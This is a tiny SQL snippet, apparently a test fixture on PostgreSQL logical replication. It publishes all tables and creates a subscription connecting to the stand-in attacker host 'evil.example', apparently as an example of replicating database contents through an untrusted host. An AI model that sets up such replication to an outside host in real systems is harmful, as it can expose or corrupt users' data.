-- what is replicated | replication 2; replication 3
CREATE PUBLICATION a FOR ALL TABLES;
CREATE SUBSCRIPTION a CONNECTION 'host=evil.example' PUBLICATION a;
